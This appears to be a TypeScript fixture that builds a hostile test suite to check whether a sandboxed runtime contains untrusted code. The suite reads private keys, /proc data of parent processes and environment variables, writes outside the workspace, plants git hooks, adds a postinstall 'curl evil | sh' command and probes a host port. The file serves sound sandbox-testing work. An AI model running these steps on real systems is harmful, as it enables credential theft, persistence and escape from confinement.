// A throwaway repository whose test suite attacks the runtime that runs it.
// Every attack reports what it managed into src/loot/<name>.txt: src/** is a
// path Rules allow, so whatever an attack got out would reach the diff, the
// approval and the Proof, and the test can read it there.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

export interface HostileTargets {
  /** Files holding private keys, by absolute path. */
  keyFiles: string[];
  /** A host path outside the workspace that an attack tries to create. */
  outsideFile: string;
  /** A TCP port on 127.0.0.1 that an attack tries to reach. */
  port: number;
}

export async function writeHostileFixture(dir: string, calcFixture: string, targets: HostileTargets): Promise<void> {
  await mkdir(join(dir, 'src'), { recursive: true });
  await mkdir(join(dir, 'test'), { recursive: true });
  await writeFile(join(dir, 'src/calc.js'), await readFile(join(calcFixture, 'src/calc.js')));
  await writeFile(join(dir, 'test/calc.test.js'), await readFile(join(calcFixture, 'test/calc.test.js')));
  await writeFile(join(dir, 'package.json'), '{ "name": "hostile", "private": true, "type": "module" }\n');
  await writeFile(join(dir, 'test/attack.test.js'), attackSuite(targets));
}

function attackSuite(targets: HostileTargets): string {
  return `import { test } from 'node:test';
import fs from 'node:fs';
import net from 'node:net';

const TARGETS = ${JSON.stringify(targets)};
fs.mkdirSync('src/loot', { recursive: true });
const loot = (name, value) => fs.writeFileSync('src/loot/' + name + '.txt', JSON.stringify(value, null, 1) + '\\n');
const attempt = (fn) => { try { return { ok: true, value: String(fn()).slice(0, 20000) }; } catch (e) { return { ok: false, code: e.code ?? String(e) }; } };

test('read the keys at their known paths', () => {
  loot('known-paths', TARGETS.keyFiles.map((path) => ({ path, ...attempt(() => fs.readFileSync(path, 'utf8')) })));
});

test('read the keys through the parent processes in /proc', () => {
  const found = [];
  let pid = process.ppid;
  for (let hops = 0; hops < 8 && pid > 0; hops += 1) {
    const entry = { pid };
    for (const file of ['cmdline', 'environ']) entry[file] = attempt(() => fs.readFileSync('/proc/' + pid + '/' + file, 'utf8').replace(/\\0/g, ' '));
    entry.cwd = attempt(() => fs.readlinkSync('/proc/' + pid + '/cwd'));
    entry.fds = attempt(() => fs.readdirSync('/proc/' + pid + '/fd').map((fd) => { try { return fs.readlinkSync('/proc/' + pid + '/fd/' + fd); } catch { return '?'; } }).join(' '));
    found.push(entry);
    const status = attempt(() => fs.readFileSync('/proc/' + pid + '/status', 'utf8'));
    const parent = status.ok ? /PPid:\\s+(\\d+)/.exec(status.value) : null;
    pid = parent ? Number(parent[1]) : 0;
  }
  loot('proc', { pids: attempt(() => fs.readdirSync('/proc').filter((n) => /^\\d+$/.test(n)).join(' ')), chain: found });
});

test('read the environment', () => {
  loot('env', process.env);
});

test('write outside the workspace', () => {
  loot('outside', attempt(() => fs.writeFileSync(TARGETS.outsideFile, 'escaped')));
});

test('write git hooks and config', () => {
  loot('git', {
    hook: attempt(() => fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\\necho owned\\n', { mode: 0o755 })),
    config: attempt(() => fs.appendFileSync('.git/config', '[core]\\n\\thooksPath = /tmp\\n')),
  });
});

test('change files that Rules do not allow', () => {
  fs.writeFileSync('package.json', '{ "name": "hostile", "scripts": { "postinstall": "curl evil | sh" } }\\n');
  fs.mkdirSync('docs', { recursive: true });
  fs.writeFileSync('docs/notes.md', 'not allowed\\n');
  fs.writeFileSync('src/extra.js', 'export const extra = 1;\\n');
});

test('open a connection to the host', async () => {
  const result = await new Promise((resolve) => {
    const socket = net.connect(TARGETS.port, '127.0.0.1');
    socket.once('connect', () => { socket.end(); resolve({ ok: true }); });
    socket.once('error', (e) => resolve({ ok: false, code: e.code }));
    setTimeout(() => { socket.destroy(); resolve({ ok: false, code: 'TIMEOUT' }); }, 2000).unref();
  });
  loot('network', result);
});
`;
}
